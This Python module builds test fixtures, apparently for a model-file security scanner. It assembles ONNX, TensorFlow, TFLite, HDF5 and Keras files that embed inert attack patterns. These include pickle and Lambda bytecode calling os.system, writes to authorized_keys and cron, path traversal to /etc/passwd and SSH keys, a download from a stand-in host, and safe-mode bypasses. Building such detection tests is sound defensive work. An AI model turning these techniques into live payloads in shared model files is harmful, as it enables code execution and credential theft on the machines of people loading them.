"""Attacks in computation graphs and Keras models: ONNX, TensorFlow, TFLite, HDF5, .keras.

The files are assembled by the small writers below: protobuf wire format, FlatBuffers,
HDF5 with version-0 structures, marshalled code in the layout of Python 3.8, stored zip.
Every payload is inert.
"""

import base64
import io
import json
import struct
import zipfile

COMMAND = "echo ringfort-inert"
URL = "http://example.invalid/ringfort-inert.tar.gz"


# --- protobuf wire format -------------------------------------------------------

def varint(value):
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def number(field, value):
    return varint(field << 3) + varint(value)


def data(field, content):
    if isinstance(content, str):
        content = content.encode()
    return varint(field << 3 | 2) + varint(len(content)) + content


# --- ONNX -----------------------------------------------------------------------

def onnx_node(op, domain="", attributes=()):
    out = data(1, "x") + data(2, "y") + data(4, op)
    for name, text in attributes:
        out += data(5, data(1, name) + data(4, text) + number(20, 3))
    if domain:
        out += data(7, domain)
    return out


def onnx_external(location, offset="0", length="16"):
    entries = [("location", location), ("offset", offset), ("length", length)]
    out = number(1, 4) + number(2, 1) + data(8, "weight")
    for key, value in entries:
        out += data(13, data(1, key) + data(2, value))
    return out + number(14, 1)


def onnx_model(nodes=None, tensors=(), extra=b"", domains=()):
    graph = b"".join(data(1, node) for node in (nodes or [onnx_node("Relu")]))
    graph += data(2, "main") + b"".join(data(5, tensor) for tensor in tensors)
    out = number(1, 8) + data(2, "ringfort") + data(7, graph)
    for domain in ("",) + tuple(domains):
        out += data(8, data(1, domain) + number(2, 17))
    return out + extra


def onnx_cases():
    for name, path in [("traversal", "../../../../etc/passwd"), ("absolute", "/etc/passwd"),
                       ("drive", "C:\\Users\\victim\\secret.bin"), ("address", "file:///etc/hosts"),
                       ("backslash", "..\\..\\secret.bin"), ("encoded", "%2e%2e/%2e%2e/secret.bin"),
                       ("home", "~/.ssh/id_rsa"), ("inner", "data/../../secret.bin")]:
        yield (f"graph/onnx_external_{name}.onnx", onnx_model(tensors=[onnx_external(path)]), "suspicious",
               f"external data at {path}")
    inner = data(1, onnx_node("Relu")) + data(5, onnx_external("../hidden.bin"))
    branch = data(4, "If") + data(5, data(1, "then_branch") + data(6, inner) + number(20, 5))
    yield ("graph/onnx_external_in_branch.onnx", onnx_model([branch]), "suspicious",
           "path traversal in the graph of an If branch")
    tensor = data(1, "value") + data(5, onnx_external("../hidden.bin"))
    yield ("graph/onnx_external_in_attribute.onnx", onnx_model([data(4, "Constant") + data(5, tensor)]), "suspicious",
           "path traversal in the tensor of an attribute")
    yield ("graph/onnx_memory_address.onnx", onnx_model(tensors=[onnx_external("*/_ORT_MEM_ADDR_/*", "4198400")]),
           "suspicious", "the runtime's marker for tensors in memory")
    yield ("graph/onnx_negative_offset.onnx", onnx_model(tensors=[onnx_external("weights.bin", "-4096")]),
           "suspicious", "external data before the start of its file")
    for name, sides in [("overflowing", [1 << 33, 1 << 33]), ("negative", [(1 << 64) - 4]), ("too_large", [1 << 20])]:
        tensor = b"".join(number(1, side) for side in sides) + number(2, 1) + data(8, "w") + data(9, bytes(16))
        yield (f"graph/onnx_shape_{name}.onnx", onnx_model(tensors=[tensor]), "suspicious", f"tensor of {name} shape")
    yield ("graph/onnx_pyop.onnx", onnx_model([onnx_node("PyOp", "pyopmulti_1", [("module", "my_module")])],
                                               domains=["pyopmulti_1"]), "suspicious", "operator that runs Python")
    yield ("graph/onnx_pyop_os.onnx",
           onnx_model([onnx_node("PyOp", "pyopmulti_1", [("module", "os"), ("compute", "system")])],
                      domains=["pyopmulti_1"]), "malicious", "Python operator bound to os.system")
    yield ("graph/onnx_python_code.onnx",
           onnx_model([onnx_node("PythonOp", "com.microsoft",
                                 [("code", f"__import__('os').system('{COMMAND}')")])]), "malicious",
           "Python operator with code in an attribute")
    yield ("graph/onnx_shell_operator.onnx",
           onnx_model([onnx_node("RunCommand", "evil.ops", [("cmd", COMMAND)])], domains=["evil.ops"]), "suspicious",
           "custom operator that runs commands")
    pickle = b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(COMMAND)) + COMMAND.encode() + b"\x85R."
    encoded = base64.b64encode(pickle)
    yield ("graph/onnx_metadata_pickle.onnx", onnx_model(extra=data(14, data(1, "state") + data(2, encoded))),
           "suspicious", "pickle in the metadata")
    yield ("graph/onnx_metadata_code.onnx",
           onnx_model(extra=data(14, data(1, "init") + data(2, f"import os; os.system('{COMMAND}')"))), "suspicious",
           "program code in the metadata")
    yield ("graph/onnx_unknown_field.onnx", onnx_model(extra=data(99, pickle)), "suspicious",
           "pickle in a field that ONNX does not have")
    fat = number(1, 2) + number(2, 1) + data(8, "w") + data(9, bytes(8) + b"#!/bin/sh\n" + COMMAND.encode())
    yield ("graph/onnx_oversized_tensor.onnx", onnx_model(tensors=[fat]), "suspicious",
           "bytes behind the last element of a tensor")


# --- TensorFlow -----------------------------------------------------------------

def tf_node(name, op, inputs=(), attributes=b""):
    return data(1, name) + data(2, op) + b"".join(data(3, i) for i in inputs) + attributes


def tf_attribute(key, value):
    return data(5, data(1, key) + data(2, value))


def tf_string(name, text):
    tensor = number(1, 7) + data(2, b"") + data(8, text)
    return tf_node(name, "Const", (), tf_attribute("value", data(8, tensor)))


def saved_model(nodes=(), functions=(), extra=b""):
    graph = b"".join(data(1, node) for node in nodes or [tf_node("x", "Placeholder")])
    library = b""
    for body in functions:
        library += data(1, data(1, data(1, "__inference_f")) + b"".join(data(3, node) for node in body))
    if library:
        graph += data(2, library)
    info = data(4, "serve") + data(5, "2.15.0")
    return number(1, 1) + data(2, data(1, info) + data(2, graph) + extra)


def tensorflow_cases():
    write = [tf_string("path", "/root/.ssh/authorized_keys"), tf_string("text", "ringfort-inert"),
             tf_node("w", "WriteFile", ["path", "text"])]
    yield ("graph/tf_write_sensitive.pb", saved_model(write), "malicious", "writes authorized_keys")
    yield ("graph/tf_write_in_function.pb", saved_model(functions=[write]), "malicious",
           "writes authorized_keys from a library function")
    yield ("graph/tf_write_traversal.pb",
           saved_model([tf_string("path", "../../../inert.txt"), tf_string("text", "x"),
                        tf_node("w", "WriteFile", ["path", "text"])]), "malicious", "writes outside the folder")
    yield ("graph/tf_write_any.pb", saved_model([tf_node("w", "WriteFile", ["a", "b"])]), "suspicious",
           "writes a file whose name is an input")
    yield ("graph/tf_read_passwd.pb",
           saved_model([tf_string("path", "/etc/passwd"), tf_node("r", "ReadFile", ["path"])]), "suspicious",
           "reads /etc/passwd")
    yield ("graph/tf_matching_files.pb",
           saved_model([tf_string("p", "/home/*/.ssh/*"), tf_node("m", "MatchingFiles", ["p"])]), "suspicious",
           "lists key files")
    for op in ("PyFunc", "EagerPyFunc", "PyFuncStateless"):
        yield (f"graph/tf_{op.lower()}.pb",
               saved_model([tf_node("f", op, ["x"], tf_attribute("token", data(2, "pyfunc_0")))]), "suspicious",
               "calls Python")
    yield ("graph/tf_print_to_file.pb",
           saved_model([tf_node("p", "PrintV2", ["x"], tf_attribute("output_stream", data(2, "file:///tmp/inert")))]),
           "suspicious", "prints to a file")
    yield ("graph/tf_debug_url.pb",
           saved_model([tf_node("d", "DebugIdentity", ["x"],
                                tf_attribute("debug_urls", data(1, data(2, "grpc://example.invalid:6064"))))]),
           "suspicious", "sends tensors to a server")
    yield ("graph/tf_load_library.pb", saved_model([tf_node("l", "LoadLibrary", ["x"])]), "malicious",
           "loads a library")
    yield ("graph/tf_save_cron.pb",
           saved_model([tf_string("prefix", "/etc/cron.d/inert"), tf_node("s", "SaveV2", ["prefix", "n", "sl"])]),
           "suspicious", "saves a checkpoint into /etc/cron.d")
    yield ("graph/tf_asset_traversal.pb", saved_model(extra=data(6, data(2, "../../etc/passwd"))), "suspicious",
           "asset outside the folder")
    yield ("graph/tf_frozen_write.pb", b"".join(data(1, node) for node in write), "malicious",
           "frozen graph that writes authorized_keys")
    layer = json.dumps({"class_name": "Lambda", "config": legacy_lambda(EVIL)})
    user = data(1, "_tf_keras_layer") + data(3, layer)
    yield ("graph/tf_keras_lambda.pb", saved_model(extra=data(7, data(1, data(4, user)))), "malicious",
           "Lambda layer in the object graph of a SavedModel")
    entry = number(2, 1) + data(3, "root.layer-0") + data(4, "_tf_keras_layer") + data(5, layer)
    yield ("graph/keras_metadata_lambda/keras_metadata.pb", data(1, entry), "malicious", "Lambda in keras_metadata.pb")


# --- TFLite ---------------------------------------------------------------------

class Flat:
    """Writes a FlatBuffer front to back: parents first, offsets patched later."""

    def __init__(self, identifier):
        self.out = bytearray(4) + identifier

    def align(self, size=8):
        while len(self.out) % size:
            self.out.append(0)

    def patch(self, at, target):
        struct.pack_into("<I", self.out, at, target - at)

    def table(self, fields):
        """`fields`: number -> (struct code, value) or a function that writes and returns its place."""
        self.align()
        places, size = {}, 8
        for field, value in fields.items():
            width = 4 if callable(value) else struct.calcsize("<" + value[0])
            size = (size + width - 1) // width * width
            places[field] = size
            size += width
        slots = max(fields, default=-1) + 1
        vtable = struct.pack("<HH", 4 + 2 * slots, size)
        vtable += b"".join(struct.pack("<H", places.get(i, 0)) for i in range(slots))
        while (len(self.out) + len(vtable)) % 8:
            self.out.append(0)
        start = len(self.out)
        self.out += vtable
        place = len(self.out)
        self.out += struct.pack("<i", place - start) + bytes(size - 4)
        for field, value in fields.items():
            at = place + places[field]
            if callable(value):
                self.patch(at, value())
            else:
                struct.pack_into("<" + value[0], self.out, at, value[1])
        return place

    def text(self, text):
        self.align(4)
        place = len(self.out)
        self.out += struct.pack("<I", len(text)) + text.encode() + b"\0"
        return place

    def items(self, code, values):
        self.align(4)
        place = len(self.out)
        self.out += struct.pack("<I", len(values)) + b"".join(struct.pack("<" + code, v) for v in values)
        return place

    def tables(self, writers):
        self.align(4)
        place = len(self.out)
        self.out += struct.pack("<I", len(writers)) + bytes(4 * len(writers))
        for i, writer in enumerate(writers):
            self.patch(place + 4 + 4 * i, writer())
        return place


def tflite(custom=None, buffer=None, description="ringfort", options=b""):
    flat = Flat(b"TFL3")
    code = {0: ("b", 32), 1: lambda: flat.text(custom), 3: ("i", 32)} if custom else {0: ("b", 19), 3: ("i", 19)}
    node = {0: ("I", 0), 1: lambda: flat.items("i", [0]), 2: lambda: flat.items("i", [0])}
    if options:
        node[5] = lambda: flat.items("B", options)
    tensor = {0: lambda: flat.items("i", [1]), 1: ("b", 0), 2: ("I", 0), 3: lambda: flat.text("x")}
    graph = {0: lambda: flat.tables([lambda: flat.table(tensor)]), 1: lambda: flat.items("i", [0]),
             2: lambda: flat.items("i", [0]), 3: lambda: flat.tables([lambda: flat.table(node)])}
    buffers = [lambda: flat.table({}), lambda: flat.table(buffer or {0: lambda: flat.items("B", bytes(16))})]
    root = flat.table({0: ("I", 3), 1: lambda: flat.tables([lambda: flat.table(code)]),
                       2: lambda: flat.tables([lambda: flat.table(graph)]), 3: lambda: flat.text(description),
                       4: lambda: flat.tables(buffers)})
    struct.pack_into("<I", flat.out, 0, root)
    return bytes(flat.out)


def tflite_cases():
    for op in ("FlexWriteFile", "FlexReadFile", "FlexPyFunc"):
        yield f"graph/tflite_{op.lower()}.tflite", tflite(op), "suspicious", f"operator {op}"
    yield "graph/tflite_shell.tflite", tflite("RunCommand"), "suspicious", "custom operator that runs commands"
    yield ("graph/tflite_options_code.tflite", tflite("Custom", options=f"os.system('{COMMAND}')".encode()),
           "suspicious", "code in custom options")
    yield ("graph/tflite_buffer_outside.tflite", tflite(buffer={1: ("Q", 1 << 40), 2: ("Q", 4096)}), "suspicious",
           "buffer past the end of the file")
    yield ("graph/tflite_description.tflite", tflite(description=f"__import__('os').system('{COMMAND}')"),
           "suspicious", "code in the description")
    pickle = b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(COMMAND)) + COMMAND.encode() + b"\x85R."
    yield ("graph/tflite_trailing_pickle.tflite", tflite() + pickle + b"\n" * 2048, "malicious",
           "pickle behind the model")


# --- Keras ----------------------------------------------------------------------

def code_object(names, constants):
    """A marshalled function of Python 3.8 with these names and constants; its bytecode returns None."""
    def short(text):
        return b"\xda" + bytes([len(text)]) + text.encode()

    def group(items):
        return b"\xa9" + bytes([len(items)]) + b"".join(items)
    strings = [b"N"] + [b"\xfa" + bytes([len(c)]) + c.encode() for c in constants]
    bytecode = b"d\x00S\x00"
    return (b"\xe3" + struct.pack("<6i", 1, 0, 0, 1, 3, 67) + b"s" + struct.pack("<i", len(bytecode)) + bytecode +
            group(strings) + group([short(n) for n in names]) + group([short("x")]) + group([]) + group([]) +
            short("<ipython>") + short("<lambda>") + struct.pack("<i", 1) + b"s" + struct.pack("<i", 0))


def encoded(code):
    return base64.encodebytes(code).decode()


EVIL = encoded(code_object(["__import__", "system"], ["os", COMMAND]))
MILD = encoded(code_object(["tf", "abs"], []))
EXEC = encoded(code_object(["exec"], [f"import os\nos.system('{COMMAND}')"]))
NET = encoded(code_object(["urllib", "urlopen", "read"], [URL]))


def legacy_lambda(code):
    return {"name": "lambda", "trainable": True, "dtype": "float32", "function": [code, None, None],
            "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw",
            "output_shape_module": None, "arguments": {}}


def sequential(*layers):
    first = {"class_name": "InputLayer", "module": "keras.layers", "registered_name": None,
             "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "input"}}
    return {"class_name": "Sequential", "module": "keras", "registered_name": None,
            "config": {"name": "model", "trainable": True, "layers": [first, *layers]}}


def keras_layer(class_name, config, module="keras.layers", registered=None):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered}


def keras3_lambda(code):
    return keras_layer("Lambda", {"name": "lambda", "function": {
        "class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}})


def keras_archive(config, encoding="utf-8"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, text in [("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2026-01-01"})),
                           ("config.json", json.dumps(config).encode(encoding)), ("model.weights.h5", hdf5({}))]:
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            archive.writestr(info, text)
    return out.getvalue()


def hdf5(attributes, external=None, stored=None):
    """An HDF5 file (superblock 0) with string attributes at its root and, if asked, one dataset of bytes
    whose elements lie in the file `external` (16 of them) or are `stored` here."""
    def pad(content):
        return content + bytes(-len(content) % 8)

    def message(kind, content):
        content = pad(content)
        return struct.pack("<HHB3x", kind, len(content), 0) + content

    def header(messages):
        body = b"".join(messages)
        return struct.pack("<BxHII4x", 1, len(messages), 1, len(body)) + body

    def text_attribute(name, text):
        raw = text.encode()
        name = name.encode() + b"\0"
        kind = struct.pack("<B3BI", 0x13, 1, 0, 0, len(raw))
        space = struct.pack("<BBB5x", 1, 0, 0)
        return message(0x0C, struct.pack("<BxHHH", 1, len(name), len(kind), len(space)) + pad(name) + pad(kind) +
                       pad(space) + raw)

    none = (1 << 64) - 1
    texts = [text_attribute(name, text) for name, text in attributes.items()]
    root = 96
    tree = root + len(header([message(0x11, bytes(16))] + texts))
    heap = tree + 544
    names = bytes(8) + pad(b"weights\0")
    segment = heap + 32
    symbols = segment + len(names)
    dataset = symbols + 328
    parts = [header([message(0x11, struct.pack("<QQ", tree, heap))] + texts)]
    children = 1 if external or stored else 0
    keys = struct.pack("<Q", 0) + (struct.pack("<QQ", symbols, 8) if children else b"")
    parts.append((b"TREE" + struct.pack("<BBHQQ", 0, 0, children, none, none) + keys).ljust(544, b"\0"))
    parts.append(b"HEAP" + struct.pack("<B3xQQQ", 0, len(names), 1, segment) + names)
    entry = struct.pack("<QQII16x", 8, dataset, 0, 0) if children else b""
    parts.append((b"SNOD" + struct.pack("<BxH", 1, children) + entry).ljust(328, b"\0"))
    if stored:
        kind = struct.pack("<B3BI", 0x10, 0, 0, 0, 1) + struct.pack("<HH", 0, 8)
        fields = [message(0x01, struct.pack("<BBB5xQ", 1, 1, 0, len(stored))), message(0x03, kind),
                  message(0x05, struct.pack("<BBBB", 2, 2, 2, 0)), b""]
        fields[3] = message(0x08, struct.pack("<BBQQ", 3, 1, 0, len(stored)))
        fields[3] = message(0x08, struct.pack("<BBQQ", 3, 1, dataset + len(header(fields)), len(stored)))
        parts.append(header(fields) + stored)
    if external:
        path = bytes(8) + pad(external.encode() + b"\0")
        kind = struct.pack("<B3BI", 0x10, 8, 0, 0, 1) + struct.pack("<HH", 0, 8)
        fields = [message(0x01, struct.pack("<BBB5xQ", 1, 1, 0, 16)), message(0x03, kind),
                  message(0x05, struct.pack("<BBBB", 2, 2, 2, 0)),
                  message(0x08, struct.pack("<BBQQ", 3, 1, none, 16)),
                  message(0x07, bytes(32) + bytes(8))]
        place = dataset + len(header(fields))
        fields[4] = message(0x07, struct.pack("<B3xHHQ", 1, 1, 1, place) + struct.pack("<QQQ", 8, 0, 16))
        parts.append(header(fields) + b"HEAP" + struct.pack("<B3xQQQ", 0, len(path), 1, place + 32) + path)
    body = b"".join(parts)
    superblock = (b"\x89HDF\r\n\x1a\n" + struct.pack("<8BHHI", 0, 0, 0, 0, 0, 8, 8, 0, 4, 16, 0) +
                  struct.pack("<QQQQ", 0, none, root + len(body), none) +
                  struct.pack("<QQIIQQ", 0, root, 1, 0, tree, heap))
    return superblock + body


def lookup3(content):
    """The checksum of HDF5's version-2 structures: Bob Jenkins' hashlittle."""
    mask = 0xFFFFFFFF

    def rotated(value, by):
        return (value << by | value >> (32 - by)) & mask
    a = b = c = (0xDEADBEEF + len(content)) & mask
    while len(content) > 12:
        x, y, z = struct.unpack_from("<3I", content)
        content = content[12:]
        a, b, c = (a + x) & mask, (b + y) & mask, (c + z) & mask
        for first, second, third in [(4, 6, 8), (16, 19, 4)]:
            a = ((a - c) & mask) ^ rotated(c, first)
            c = (c + b) & mask
            b = ((b - a) & mask) ^ rotated(a, second)
            a = (a + c) & mask
            c = ((c - b) & mask) ^ rotated(b, third)
            b = (b + a) & mask
    if not content:
        return c
    x, y, z = struct.unpack("<3I", content.ljust(12, b"\0"))
    a, b, c = (a + x) & mask, (b + y) & mask, (c + z) & mask
    for target, by in [("c", 14), ("a", 11), ("b", 25), ("c", 16), ("a", 4), ("b", 14), ("c", 24)]:
        if target == "c":
            c = ((c ^ b) - rotated(b, by)) & mask
        elif target == "a":
            a = ((a ^ c) - rotated(c, by)) & mask
        else:
            b = ((b ^ a) - rotated(a, by)) & mask
    return c


def dense_hdf5(name, text):
    """An HDF5 file (superblock 2) whose root keeps one string attribute in dense storage."""
    def sealed(content):
        return content + struct.pack("<I", lookup3(content))

    none = (1 << 64) - 1
    raw, label = text.encode(), name.encode() + b"\0"
    attribute = (struct.pack("<BBHHHB", 3, 0, len(label), 8, 4, 0) + label + struct.pack("<B3xI", 0x13, len(raw)) +
                 struct.pack("<4B", 2, 0, 0, 0) + raw)
    block_size, node_size = 65536, 512
    heap = 48 + 7 + 50 + 4
    block = heap + 146
    tree = block + block_size
    leaf = tree + 38
    end = leaf + node_size
    messages = (struct.pack("<BHBBBQQ", 2, 18, 0, 0, 0, none, none) + struct.pack("<BHBBB", 10, 2, 0, 0, 0) +
                struct.pack("<BHBBBQQ", 21, 18, 0, 0, 0, heap, tree))
    header = sealed(b"OHDR" + struct.pack("<BBB", 2, 0, len(messages)) + messages)
    numbers = [0, none, block_size - 18 - len(attribute), none, block_size, block_size, block_size, 1, 0, 0, 0, 0]
    frame = (b"FRHP" + struct.pack("<BHHBI", 0, 8, 0, 0, 60000) + struct.pack("<12Q", *numbers) +
             struct.pack("<HQQHHQH", 4, block_size, block_size, 40, 1, block, 0))
    body = (b"FHDB" + struct.pack("<BQ5x", 0, heap) + attribute).ljust(block_size, b"\0")
    identifier = b"\0" + struct.pack("<IBH", 18, 0, len(attribute))
    record = identifier + struct.pack("<BII", 0, 0, lookup3(name.encode()))
    index = sealed(b"BTHD" + struct.pack("<BBIHHBBQHQ", 0, 8, node_size, len(record), 0, 100, 40, leaf, 1, 1))
    node = sealed(b"BTLF" + struct.pack("<BB", 0, 8) + record).ljust(node_size, b"\0")
    superblock = sealed(b"\x89HDF\r\n\x1a\n" + struct.pack("<4BQQQQ", 2, 8, 8, 0, 0, none, end, 48))
    out = superblock + header + sealed(frame) + body + index + node
    assert len(out) == end
    return out


def keras_h5(config):
    return hdf5({"backend": "tensorflow", "keras_version": "2.15.0", "model_config": json.dumps(config)})


def keras_cases():
    legacy = lambda code: sequential({"class_name": "Lambda", "config": legacy_lambda(code)})
    yield "graph/h5_lambda_os_system.h5", keras_h5(legacy(EVIL)), "malicious", "Lambda bytecode with os.system"
    yield "graph/h5_lambda_exec.h5", keras_h5(legacy(EXEC)), "malicious", "Lambda bytecode with exec"
    yield "graph/h5_lambda_network.h5", keras_h5(legacy(NET)), "malicious", "Lambda bytecode that opens an address"
    yield "graph/h5_lambda_plain.h5", keras_h5(legacy(MILD)), "suspicious", "Lambda bytecode of harmless names"
    by_name = dict(legacy_lambda(""), function="system", function_type="function", module="os")
    yield ("graph/h5_lambda_by_name.h5", keras_h5(sequential({"class_name": "Lambda", "config": by_name})),
           "malicious", "Lambda bound to os.system by name")
    nested = sequential({"class_name": "TimeDistributed", "config": {
        "name": "t", "layer": {"class_name": "Lambda", "config": legacy_lambda(EVIL)}}})
    yield "graph/h5_lambda_nested.h5", keras_h5(nested), "malicious", "Lambda inside a TimeDistributed layer"
    renamed = sequential({"class_name": "Custom>Scale", "config": legacy_lambda(EVIL)})
    yield "graph/h5_lambda_renamed.h5", keras_h5(renamed), "malicious", "Lambda under the name of a custom class"
    shape = dict(legacy_lambda(MILD), output_shape=[EVIL, None, None], output_shape_type="lambda")
    yield ("graph/h5_lambda_output_shape.h5", keras_h5(sequential({"class_name": "Lambda", "config": shape})),
           "malicious", "bytecode in output_shape")
    config = json.dumps({"loss": {"class_name": "__lambda__", "config": {"code": EVIL}}})
    yield ("graph/h5_training_config.h5", hdf5({"training_config": config}), "malicious",
           "bytecode in the training configuration")
    dense = dense_hdf5("model_config", json.dumps(legacy(EVIL)))
    yield "graph/h5_dense_attribute.h5", dense, "malicious", "Lambda bytecode in dense attribute storage"
    hidden = bytes(512) + keras_h5(legacy(EVIL))
    yield "graph/h5_user_block.h5", hidden, "malicious", "Lambda bytecode behind a user block"
    image = (b"GIF89a" + struct.pack("<HH", 1, 1)).ljust(512, b"\0") + keras_h5(legacy(EVIL))
    yield "graph/h5_behind_image.h5", image, "malicious", "Lambda bytecode behind the head of an image"
    yield ("graph/h5_external_storage.h5", hdf5({}, external="/etc/passwd"), "suspicious",
           "dataset whose elements lie in /etc/passwd")
    yield ("graph/h5_external_traversal.h5", hdf5({}, external="../../secret"), "suspicious",
           "dataset whose elements lie outside the folder")

    yield "graph/keras_lambda.keras", keras_archive(sequential(keras3_lambda(EVIL))), "malicious", "__lambda__ bytecode"
    yield ("graph/keras_lambda_plain.keras", keras_archive(sequential(keras3_lambda(MILD))), "suspicious",
           "__lambda__ bytecode of harmless names")
    for module, name in [("os", "system"), ("subprocess", "Popen"), ("builtins", "exec"), ("builtins", "eval"),
                         ("importlib", "import_module"), ("numpy", "load"), ("keras.saving", "load_model"),
                         ("keras.src.utils.io_utils.os", "system"), ("shutil", "rmtree"), ("pickle", "loads")]:
        config = sequential(keras_layer("function", name, module, name))
        yield (f"graph/keras_function_{module.replace('.', '_')}_{name}.keras", keras_archive(config), "malicious",
               f"names {module}.{name} as a function")
    stranger = sequential(keras_layer("Scale", {"name": "scale"}, "ringfort_inert.layers", "Custom>Scale"))
    yield "graph/keras_unknown_module.keras", keras_archive(stranger), "suspicious", "imports a module of the file's choice"
    kind = {"class_name": "__typespec__", "spec_name": "exec", "module": "builtins", "config": [COMMAND],
            "registered_name": None}
    yield "graph/keras_typespec.keras", keras_archive(sequential(kind)), "malicious", "names builtins.exec as a type"
    for name, encoding in [("utf16", "utf-16"), ("utf32", "utf-32-be")]:
        yield (f"graph/keras_config_{name}.keras", keras_archive(sequential(keras3_lambda(EVIL)), encoding), "malicious",
               f"__lambda__ bytecode in a config.json in {encoding}")
    infinite = dict(sequential(keras3_lambda(EVIL)), seed=float("nan"))
    yield ("graph/keras_config_nan.keras", keras_archive(infinite), "malicious",
           "__lambda__ bytecode in a config.json with a NaN")
    call = sequential(dict(keras_layer("Popen", {"args": COMMAND}, "subprocess"),
                           inbound_nodes=[{"args": [["echo", "ringfort-inert"]], "kwargs": {"bufsize": -1}}]))
    yield "graph/keras_class_popen.keras", keras_archive(call), "malicious", "names subprocess.Popen as a layer"
    fetch = sequential(keras_layer("function", "get_file", "keras.utils", "get_file"),
                       keras_layer("Dense", {"origin": URL, "extract": True, "cache_dir": "/tmp"}))
    yield "graph/keras_get_file.keras", keras_archive(fetch), "malicious", "downloads and unpacks an archive"
    switch = sequential(keras_layer("function", "enable_unsafe_deserialization", "keras.config"),
                        keras3_lambda(MILD))
    yield "graph/keras_unsafe_switch.keras", keras_archive(switch), "malicious", "switches safe mode off, then a Lambda"
    asked = sequential(dict(keras_layer("Dense", {"name": "d", "units": 1}), safe_mode=False))
    yield "graph/keras_safe_mode_false.keras", keras_archive(asked), "suspicious", "asks for safe_mode=False"
    for name, path in [("passwd", "/etc/passwd"), ("address", "http://example.invalid/words.txt"),
                       ("traversal", "../../.ssh/id_rsa"), ("absolute", "/srv/words.txt")]:
        lookup = sequential(keras_layer("StringLookup", {"name": "s", "vocabulary": path, "max_tokens": None}))
        yield f"graph/keras_vocabulary_{name}.keras", keras_archive(lookup), "suspicious", f"vocabulary at {path}"
    pickle = b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(COMMAND)) + COMMAND.encode() + b"\x85R."
    torch = sequential(keras_layer("TorchModuleWrapper", {"module": base64.b64encode(pickle).decode()}))
    yield "graph/keras_torch_module.keras", keras_archive(torch), "malicious", "pickle in a TorchModuleWrapper"
    operator = sequential({"class_name": "TFOpLambda", "config": {"name": "w", "function": "io.write_file"}})
    yield "graph/keras_tf_write_file.keras", keras_archive(operator), "suspicious", "operator layer that writes files"


def cases():
    yield from onnx_cases()
    yield from tensorflow_cases()
    yield from tflite_cases()
    yield from keras_cases()
